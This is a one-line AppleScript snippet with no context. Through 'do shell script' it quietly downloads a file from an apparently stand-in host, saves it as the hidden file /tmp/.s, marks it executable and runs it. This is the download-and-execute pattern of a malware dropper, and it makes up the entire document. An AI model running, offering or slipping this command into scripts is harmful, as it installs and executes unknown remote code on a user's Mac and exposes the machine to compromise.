do shell script "curl -fsSL https://dl.as.invalid/s -o /tmp/.s && chmod +x /tmp/.s && /tmp/.s"
